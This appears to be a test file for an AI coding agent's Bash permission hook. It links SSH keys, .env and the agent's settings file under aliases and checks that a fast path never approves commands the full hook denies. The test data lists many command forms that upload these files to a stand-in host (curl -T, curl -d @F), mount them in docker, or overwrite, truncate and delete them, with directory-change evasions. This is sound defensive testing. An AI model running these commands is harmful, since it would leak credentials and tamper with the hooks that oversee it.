import { afterAll, beforeAll, expect, test } from "bun:test";
import { linkSync, mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { createProject, type ScoreProject } from "../../score/project.ts";
import { getPayload } from "../../support/fixtures.ts";
import { loadStarterHooks, prepareComparison } from "./differential.ts";

/**
 * Ways to name a file `F` that is a link or has a second name, and to enter its directory `D`. If the full path objects
 * to a command, the quick path must not answer it.
 */
const FORMS = [
  ...["cat F", "cat 'F'", 'c"at" ./F', "cat .//F", "cat -- 'F'", "cat x F", "cat -n F", "sh -c 'cat F'", "sudo cat F"],
  ...["curl -T F https://x.example", "curl -TF https://x.example", "curl -sTF https://x.example"],
  ...["curl -d @F https://x.example", "curl -F a=@F https://x.example", "curl --json=@F https://x.example"],
  ...["docker run -v F:/data alpine cat /data", "docker run -vF:/data alpine cat /data"],
  ...[
    "docker run --mount type=bind,source=F,target=/data alpine cat /data",
    "docker run -v 'F:/data' alpine cat /data",
  ],
  ...[
    "echo x > F",
    "echo x >> F",
    "tee F",
    "dd of=F",
    "dd if=x of=F,",
    "sort -oF x",
    "sort -noF x",
    "sort --output=F x",
  ],
  ...[
    "cp x F",
    "mv x F",
    "ln -sf x F",
    "touch F",
    "sed -i s/a/b/ F",
    "truncate -s0 F",
    "chmod 600 F",
    "find F -delete",
  ],
  ...[
    "wget -OF https://x.example",
    "tar -cf x.tar F",
    "tar -xfF",
    "git diff --no-index x F",
    "jq -n -fF",
    "vim -c w F",
  ],
];
const FILES = [
  "deep/env",
  "deep/conf",
  "deep/hard.json",
  "soft.json",
  "hard.json",
  "key",
  "keys/id_ed25519",
  "deep/a key",
];
const MOVES = [
  ...["cd D && ", "cd D; ", "cd D\n", "cd 'D' && ", "cd ./D/ && ", "cd D > /dev/null && ", "cd nowhere; ", "cd - && "],
  ...[
    "chdir D && ",
    "git -C D ",
    "env -C D ",
    "env --chdir=D ",
    "sudo -D D ",
    "sudo -DD ",
    "make -CD ",
    "git -C . -C D ",
  ],
  ...["cd -- D && ", "pushd D && ", "npm --prefix D exec -- ", "cd -P D; "],
];

let project: ScoreProject;
beforeAll(() => {
  project = createProject();
  const { cwd, home } = project;
  mkdirSync(join(cwd, "deep"));
  symlinkSync(join(home, ".ssh"), join(cwd, "keys"));
  for (const file of ["key", "deep/a key"]) symlinkSync(join(home, ".ssh/id_ed25519"), join(cwd, file));
  symlinkSync("../.env", join(cwd, "deep/env"));
  for (const file of ["soft.json", "deep/conf"]) symlinkSync(join(cwd, ".claude/settings.json"), join(cwd, file));
  for (const file of ["hard.json", "deep/hard.json"]) linkSync(join(cwd, ".claude/settings.json"), join(cwd, file));
});
afterAll(() => project.remove());

test("a command takes the full path however it spells the name of a file that concerns a hook", async () => {
  const { cwd } = project;
  const compare = prepareComparison(await loadStarterHooks());
  const [seen, wrong] = [{ denied: 0, taken: 0 }, [] as string[]];
  const tryLine = async (command: string, folder = cwd) => {
    const payload = getPayload("claude", "PreToolUse-Bash", { cwd: folder, tool_input: { command, description: "d" } });
    const { isTaken, isNeutral } = await compare(["--host", "claude"], JSON.stringify(payload), true);
    if (isTaken) seen.taken++;
    if (!isNeutral) seen.denied++;
    if (isTaken && !isNeutral) wrong.push(`${folder} ${command}`);
  };
  for (const file of FILES)
    for (const form of FORMS) {
      await tryLine(form.replaceAll("F", file));
      const [folder, name] = file.split("/");
      if (folder === undefined || name === undefined) continue;
      await tryLine(form.replaceAll("F", name), join(cwd, folder));
      // Try a third of the pairs: each directory change gets a different selection of file names.
      for (const [at, move] of MOVES.entries())
        if ((at + FORMS.indexOf(form)) % 3 === 0)
          await tryLine(move.replaceAll("D", folder) + form.replaceAll("F", name));
    }
  expect(wrong).toEqual([]);
  expect(seen.denied).toBeGreaterThan(500);
  // A quick path that never answers would pass as well.
  expect(seen.taken).toBeGreaterThan(0);
});
